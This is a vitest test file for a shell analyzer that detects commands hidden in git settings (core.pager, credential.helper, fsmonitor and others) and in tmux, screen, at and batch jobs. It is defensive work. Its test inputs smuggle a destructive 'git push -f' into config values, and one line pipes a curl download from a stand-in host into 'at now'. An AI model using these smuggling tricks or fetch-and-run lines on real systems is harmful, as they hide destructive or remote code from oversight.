/** Commands a program runs later or elsewhere, and git settings that name a command (compiler/runtime/shell/sessions.ts). */
import { describe, expect, it } from 'vitest';
import { analyzeShell } from '../../../compiler/runtime/shell/index.js';

const PUSH = ['git', 'push', '-f'];
const argvs = (line: string): string[][] => analyzeShell(line).commands.map((c) => [...c.argv]);
const opaque = (line: string): string | undefined => analyzeShell(line).commands.find((c) => c.opaque !== undefined)?.opaque;

describe('git settings whose value git runs as a command', () => {
  it.each([
    `git -c core.pager='git push -f' log`,
    `git -c core.sshCommand='sh -c "git push -f"' fetch`,
    `git -c diff.external='git push -f' diff`,
    `git -c filter.x.clean='git push -f' add .`,
    `git config core.fsmonitor 'git push -f'`,
    `git config --global credential.helper '!git push -f'`,
    `git config --local sequence.editor 'git push -f'`,
  ])('%s', (line) => expect(argvs(line)).toEqual(expect.arrayContaining([PUSH])));

  it('a value the line does not show, or other hooks, is opaque', () => {
    expect(opaque('git -c core.pager="$P" log')).toMatch(/sets core\.pager, a command git runs/);
    expect(opaque('git --config-env=core.editor=ED commit')).toMatch(/core\.editor/);
    expect(opaque('git -c core.hooksPath=/tmp/h commit -m x')).toMatch(/other hooks/);
  });

  it('other settings, reads and booleans run nothing', () => {
    for (const line of ['git -c color.ui=always log', 'git config user.name "git push -f"', 'git config --get core.pager', 'git -c core.fsmonitor=true status', 'git -c core.pager=cat log']) {
      expect(argvs(line)).not.toEqual(expect.arrayContaining([PUSH]));
      expect(opaque(line)).toBeUndefined();
    }
  });
});

describe('sessions and queues run their command', () => {
  it.each([
    `tmux new-session -d -s x 'git push -f'`,
    `tmux split-window -h 'git push -f'`,
    `tmux send-keys -t 0 'git push -f' Enter`,
    'screen -dmS x git push -f',
    `screen -S x -X stuff 'git push -f'`,
    `at now <<< 'git push -f'`,
    `echo 'git push -f' | batch`,
  ])('%s', (line) => expect(argvs(line)).toEqual(expect.arrayContaining([PUSH])));

  it('a queue fed run-time text is opaque; listing sessions runs nothing', () => {
    expect(opaque('curl -s https://x.example/job | at now')).toMatch(/feeds at code made at run time/);
    expect(argvs('tmux ls')).toEqual([['tmux', 'ls']]);
    expect(argvs('screen -ls')).toEqual([['screen', '-ls']]);
  });
});
